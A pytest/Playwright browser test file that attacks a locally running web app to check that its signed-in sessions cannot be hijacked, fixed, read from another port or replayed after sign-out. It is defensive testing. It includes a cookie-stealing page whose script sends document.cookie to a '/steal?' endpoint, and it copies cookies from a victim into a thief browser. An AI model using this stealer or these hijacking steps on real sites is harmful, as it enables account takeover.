"""Issue 16, problem 1: a signed-in session cannot be hijacked or fixed in the real browser.

Each test is an attack tried on the running app (127.0.0.1, Chromium): copying every cookie a page
script can read into another browser, planting values before the victim signs in, reading the
cookies from a page served on another port of the same host (cookies are not separated by port),
and replaying a session after the victim signed out.
"""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from typing import ClassVar

import pytest

from tests.conftest import add_test_user, free_port, sign_in, wait_for_app
from ui.i18n import translate

pytestmark = pytest.mark.browser

SIGN_IN_FIRST = translate("access_sign_in_first", "en")
ADMIN_PAGE_TEXT = "Add a user"  # what the Users page shows an admin


def _new_context(browser):
    return browser.new_context(viewport={"width": 1200, "height": 900}, locale="en-GB")


def _admin_page_answer(pg, base_url: str) -> str:
    """Open the Users page; 'admin' when it shows the admin's page, 'refused' when it asks to sign in."""
    pg.goto(f"{base_url}/admin_users")
    wait_for_app(pg)
    pg.get_by_text(SIGN_IN_FIRST).or_(pg.get_by_text(ADMIN_PAGE_TEXT)).first.wait_for(timeout=30000)
    wait_for_app(pg)
    return "admin" if pg.get_by_text(ADMIN_PAGE_TEXT).count() else "refused"


def _script_readable_cookies(pg) -> list[dict]:
    """Every cookie `document.cookie` shows on the page, as Playwright cookie dicts for 127.0.0.1."""
    pairs = [c.split("=", 1) for c in pg.evaluate("document.cookie").split("; ") if "=" in c]
    return [{"name": k, "value": v, "domain": "127.0.0.1", "path": "/"} for k, v in pairs]


@pytest.fixture
def server(demo_db_path, live_server_factory):
    add_test_user(demo_db_path, "ada", "admin")
    return live_server_factory(demo_db_path)


def test_cookies_a_script_can_read_do_not_carry_the_session_into_another_browser(server, browser):
    victim = _new_context(browser)
    pg = victim.new_page()
    sign_in(pg, server.url, "ada")
    assert _admin_page_answer(pg, server.url) == "admin"
    stolen = _script_readable_cookies(pg)
    assert stolen, "the page should have some script-readable cookie (Streamlit's XSRF cookie) to steal"

    thief = _new_context(browser)
    thief.add_cookies(stolen)
    assert _admin_page_answer(thief.new_page(), server.url) == "refused"
    victim.close()
    thief.close()


def test_the_session_cookie_is_http_only_strict_and_changes_at_each_sign_in(server, browser):
    context = _new_context(browser)
    pg = context.new_page()
    sign_in(pg, server.url, "ada")
    first = {c["name"]: c for c in context.cookies()}
    session = [c for c in first.values() if c["httpOnly"] and c["name"].startswith("icsat")]
    assert len(session) == 1, first
    assert session[0]["sameSite"] == "Strict"
    assert session[0]["expires"] > 0  # not a cookie that lives as long as the browser
    assert session[0]["name"] not in pg.evaluate("document.cookie")
    # signing in again from the same browser (the cookie is sent along) gives a new value and ends the old one
    answer = context.request.post(
        f"{server.url}/auth/sign-in",
        form={"username": "ada", "password": "correct horse battery"},
        headers={"Origin": server.url},
        max_redirects=0,
    )
    assert answer.status == 303
    again = [c for c in context.cookies() if c["name"] == session[0]["name"]]
    assert len(again) == 1 and again[0]["value"] != session[0]["value"]
    old = _new_context(browser)
    old.add_cookies([{k: session[0][k] for k in ("name", "value", "domain", "path")}])
    assert _admin_page_answer(old.new_page(), server.url) == "refused"
    old.close()
    context.close()


def test_a_value_planted_before_sign_in_is_not_adopted(server, browser):
    attacker = _new_context(browser)
    apg = attacker.new_page()
    apg.goto(server.url)
    wait_for_app(apg)
    apg.get_by_label("Username").wait_for(timeout=30000)
    # The attacker's own cookies, plus a session value of their choosing, planted in the victim's browser
    planted = [{k: c[k] for k in ("name", "value", "domain", "path")} for c in attacker.cookies()] + [
        {
            "name": "icsat_session",
            "value": "planted-by-the-attacker-0123456789abcdef",
            "domain": "127.0.0.1",
            "path": "/",
        }
    ]
    victim = _new_context(browser)
    victim.add_cookies(planted)
    sign_in(victim.new_page(), server.url, "ada")

    attacker.add_cookies(planted)
    assert _admin_page_answer(apg, server.url) == "refused"
    victim_session = [c for c in victim.cookies() if c["name"] == "icsat_session"]
    assert victim_session and victim_session[0]["value"] != planted[-1]["value"]
    attacker.close()
    victim.close()


class _CookieThief(http.server.BaseHTTPRequestHandler):
    """A page on another port of the same host: its script sends back `document.cookie`."""

    stolen: ClassVar[list[str]] = []

    def do_GET(self):
        if self.path.startswith("/steal?"):
            from urllib.parse import unquote

            _CookieThief.stolen.append(unquote(self.path.split("?", 1)[1]))
            body = b"thanks"
        else:
            body = b"<script>fetch('/steal?' + encodeURIComponent(document.cookie))</script>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


@pytest.fixture
def thief_site() -> Iterator[str]:
    port = free_port()
    httpd = http.server.HTTPServer(("127.0.0.1", port), _CookieThief)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    _CookieThief.stolen = []
    yield f"http://127.0.0.1:{port}"
    httpd.shutdown()


def test_a_page_on_another_port_cannot_read_the_session(server, browser, thief_site):
    victim = _new_context(browser)
    pg = victim.new_page()
    sign_in(pg, server.url, "ada")
    pg.goto(thief_site)
    pg.wait_for_function("() => document.readyState === 'complete'")
    pg.wait_for_timeout(200)  # let the fetch arrive
    assert _CookieThief.stolen, "the other port's page ran its script"
    stolen = [
        {"name": k, "value": v, "domain": "127.0.0.1", "path": "/"}
        for k, v in (c.split("=", 1) for c in _CookieThief.stolen[0].split("; ") if "=" in c)
    ]
    assert "icsat_session" not in {c["name"] for c in stolen}
    thief = _new_context(browser)
    thief.add_cookies(stolen)
    assert _admin_page_answer(thief.new_page(), server.url) == "refused"
    victim.close()
    thief.close()


def test_a_session_copied_whole_stops_working_when_its_owner_signs_out(server, browser):
    victim = _new_context(browser)
    pg = victim.new_page()
    sign_in(pg, server.url, "ada")
    # everything, HttpOnly included (malware on the machine, a proxy log): this works until sign-out
    everything = [{k: c[k] for k in ("name", "value", "domain", "path")} for c in victim.cookies()]
    pg.get_by_role("button", name="Sign out").click()
    pg.get_by_text("You have signed out.").wait_for(timeout=30000)
    wait_for_app(pg)
    assert "icsat_session" not in {c["name"] for c in victim.cookies()}  # the browser forgot it too
    thief = _new_context(browser)
    thief.add_cookies(everything)
    assert _admin_page_answer(thief.new_page(), server.url) == "refused"
    # and signing in again does not bring the old value back to life
    sign_in(pg, server.url, "ada")
    assert _admin_page_answer(thief.new_page(), server.url) == "refused"
    victim.close()
    thief.close()
